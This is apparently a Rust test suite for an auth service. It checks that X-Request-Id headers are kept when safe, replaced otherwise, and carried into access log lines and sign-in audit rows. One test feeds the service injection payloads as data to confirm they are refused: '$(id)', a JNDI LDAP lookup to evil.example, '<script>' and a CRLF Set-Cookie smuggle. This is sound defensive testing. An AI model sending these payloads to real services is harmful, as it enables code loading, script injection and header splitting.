//! One name for a request: in its answer, in its log line and in its audit row.

use serde_json::{Value, json};

use super::listening::{Listening, listening};
use super::probes::probes;
use crate::harness::rows;
use crate::harness::{ADA, Answer, PASSWORD, log, unique};

/// Asks with this header, and gives the id that came back.
async fn id_for(on: &Listening<'_>, header: &[u8]) -> String {
    let head = b"GET /auth/config HTTP/1.1\r\nHost: localhost\r\n";
    let answer = on
        .bad("an id", &[head, header, b"\r\n\r\n"].concat())
        .await
        .unwrap();
    assert_eq!(answer.status, 200);
    id_of(&answer)
}

fn id_of(answer: &Answer) -> String {
    let ids: Vec<_> = answer.headers.get_all("x-request-id").iter().collect();
    assert_eq!(ids.len(), 1, "{answer:?}");
    ids[0].to_str().unwrap().to_owned()
}

/// Whether the service made it.
fn is_ours(id: &str) -> bool {
    uuid::Uuid::parse_str(id).is_ok_and(|id| id.get_version_num() == 7)
}

#[tokio::test]
async fn an_id_that_a_log_can_bear_is_kept() {
    listening(async |on| {
        let longest = "x".repeat(128);
        for id in [
            "a",
            "0",
            "019e830e-1a00-79cc-afe7-fede20c6eff8",
            "A.b_c-9",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-01",
            &longest,
        ] {
            assert_eq!(
                id_for(on, format!("X-Request-Id: {id}").as_bytes()).await,
                id
            );
            assert_eq!(
                id_for(on, format!("x-request-id:   {id}\t").as_bytes()).await,
                id
            );
        }
    })
    .await;
}

#[tokio::test]
async fn any_other_is_replaced() {
    listening(async |on| {
        let too_long = "x".repeat(129);
        for id in [
            &b""[..],
            b"a b",
            b"a\tb",
            b"a,b",
            b"a;b",
            b"a/b",
            b"a\"b",
            b"a\\b",
            b"{}",
            b"$(id)",
            b"${jndi:ldap://evil.example}",
            b"<script>",
            b"\xc3\xa4",
            b"\xff",
            b"%0d%0aSet-Cookie:%20x",
            too_long.as_bytes(),
        ] {
            let given = id_for(on, &[b"X-Request-Id: ", id].concat()).await;
            assert!(
                is_ours(&given),
                "{:?} gave {given}",
                String::from_utf8_lossy(id)
            );
        }
        let first = id_for(on, b"X: 1").await;
        assert!(is_ours(&first));
        assert_ne!(id_for(on, b"X: 1").await, first);
    })
    .await;
}

#[tokio::test]
async fn every_answer_has_one_and_so_has_its_log_line() {
    listening(async |on| {
        for (n, probe) in probes().into_iter().enumerate() {
            for method in [probe.method.as_str(), "OPTIONS", "BREW"] {
                // One that no other test uses: they share the log.
                let id = format!("line-{n}-{method}-{}", on.address.port());
                let mut probe = probe.clone();
                method.clone_into(&mut probe.method);
                let mut line = on.connect().await;
                line.write(&probe.request(on, &format!("X-Request-Id: {id}\r\n")))
                    .await;
                let answer = line.answer().await.unwrap();
                assert_eq!(id_of(&answer), id);
                let logged = line_of(&id);
                assert_eq!(
                    logged["fields"]["status"],
                    answer.status.as_u16(),
                    "{logged}"
                );
                assert_eq!(logged["fields"]["ip"], "127.0.0.1", "{logged}");
                let route = if method == "OPTIONS" {
                    "none"
                } else {
                    probe.path
                };
                assert!(
                    [route, probe.path].contains(&logged["fields"]["route"].as_str().unwrap()),
                    "{logged}"
                );
            }
        }
        let nowhere =
            b"GET /auth/nowhere HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: nowhere\r\n\r\n";
        assert_eq!(id_of(&on.refused(404, "nowhere", nowhere).await), "nowhere");
    })
    .await;
}

/// The line that tells of the request `id`.
fn line_of(id: &str) -> Value {
    let text = log::text();
    let mut lines = text
        .lines()
        .filter(|line| line.contains("doorward::access") && line.contains(id));
    let line = lines
        .next()
        .unwrap_or_else(|| panic!("no line tells of {id}"));
    assert_eq!(lines.next(), None, "one request, one line");
    serde_json::from_str(line).unwrap()
}

#[tokio::test]
async fn the_line_about_a_request_says_whose_it_was() {
    listening(async |on| {
        let signed_in = on.server.signs_in(ADA, PASSWORD).await;
        let token = signed_in.token().unwrap();
        let me = on.server.get_as(token, "/auth/me").await;
        for (authorization, status, user) in [
            (format!("Authorization: Bearer {token}\r\n"), 200, &me.json()["id"]),
            (String::new(), 401, &Value::Null),
        ] {
            let id = unique();
            let mut line = on.connect().await;
            let head = format!("GET /auth/me HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: {id}\r\n{authorization}\r\n");
            line.write(head.as_bytes()).await;
            assert_eq!(line.answer().await.unwrap().status, status);
            let logged = line_of(&id);
            assert_eq!(&logged["fields"]["user_id"], user, "{logged}");
            assert_eq!(logged["span"]["request_id"], id, "{logged}");
        }
    })
    .await;
}

#[tokio::test]
async fn an_audit_row_has_the_id_of_its_request() {
    listening(async |on| {
        let app = &on.server.app;
        for (password, status, event) in [(PASSWORD, 200, "signed_in"), ("not the password", 401, "sign_in_failed")] {
            let body = json!({"email": ADA, "password": password}).to_string();
            let length = body.len();
            for (header, given) in [("X-Request-Id: from-outside\r\n", Some("from-outside")), ("X-Request-Id: a b\r\n", None)] {
                let head = format!("POST /auth/signin HTTP/1.1\r\nHost: localhost\r\n{header}Content-Type: application/json");
                let mut line = on.connect().await;
                line.write(format!("{head}\r\nContent-Length: {length}\r\n\r\n{body}").as_bytes()).await;
                let answer = line.answer().await.unwrap();
                assert_eq!(answer.status, status);
                let id = id_of(&answer);
                assert!(given.map_or_else(|| is_ours(&id), |given| given == id), "{id}");
                let rows = rows::audited(&app.db, &id).await;
                assert!(rows.iter().any(|row| row.event == event), "{id}");
            }
        }
    })
    .await;
}
